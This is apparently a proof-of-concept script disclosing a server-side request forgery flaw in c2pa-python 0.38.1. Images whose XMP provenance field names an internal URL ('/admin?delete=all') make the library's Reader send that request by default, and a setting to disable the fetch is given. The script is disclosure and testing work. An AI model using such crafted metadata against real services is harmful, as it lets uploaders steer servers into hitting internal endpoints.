#!/usr/bin/env bash
# c2pa-python 0.38.1: looking at a picture sends a request to whatever address the picture's metadata names.
#
# Behaviour: `c2pa.Reader("image/jpeg", stream)`, also of bytes in memory, GETs the URL in XMP's `dcterms:provenance`, the
# place of a manifest that is not in the file. It does so for a file without any claim, for http, for 127.0.0.1 and addresses
# of the network inside, with its query, before anything is checked; JPEG, PNG and WebP alike. The call that a service makes
# to find out whether an upload is signed lets whoever uploads choose what that service's machine asks.
# Why it matters: data sets are looked through by the million, on nodes with metadata services and stores at hand, and a
# crop of 2 KB tells its author when, and from where, it was read.
# Way out: c2pa.Reader(..., context=c2pa.Context.from_dict({"verify": {"remote_manifest_fetch": False}})).
# Seen: one request by each of three formats at the defaults, none with the setting
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install --quiet --disable-pip-version-check uv
"$folder/venv/bin/uv" pip install --quiet --python "$folder/venv/bin/python" c2pa-python==0.38.1 pillow==13.0.0
"$folder/venv/bin/python" - <<'PY'
import io
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import c2pa
from PIL import Image
from PIL.PngImagePlugin import PngInfo

asked = []


class Inside(BaseHTTPRequestHandler):
    def do_GET(self):
        asked.append(self.path)
        self.send_error(404)

    def log_message(self, *_):
        pass


server = HTTPServer(("127.0.0.1", 0), Inside)
threading.Thread(target=server.serve_forever, daemon=True).start()
xmp = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:dcterms="http://purl.org/dc/terms/" '
    f'dcterms:provenance="http://127.0.0.1:{server.server_port}/admin?delete=all"/></rdf:RDF></x:xmpmeta>'
)


def requests_of(image_format, settings):
    asked.clear()
    stream, info = io.BytesIO(), PngInfo()
    info.add_itxt("XML:com.adobe.xmp", xmp)
    Image.new("RGB", (64, 128)).save(stream, image_format, xmp=xmp.encode(), pnginfo=info)
    try:
        c2pa.Reader(f"image/{image_format}", io.BytesIO(stream.getvalue()), context=c2pa.Context.from_dict(settings))
    except c2pa.C2paError:
        pass
    return list(asked)


for image_format in ("jpeg", "png", "webp"):
    default = requests_of(image_format, {})
    forbidden = requests_of(image_format, {"verify": {"remote_manifest_fetch": False}})
    print(f"{image_format}: {default} at the defaults, {forbidden} with remote_manifest_fetch off")
    assert default == ["/admin?delete=all"]
    assert forbidden == []
PY
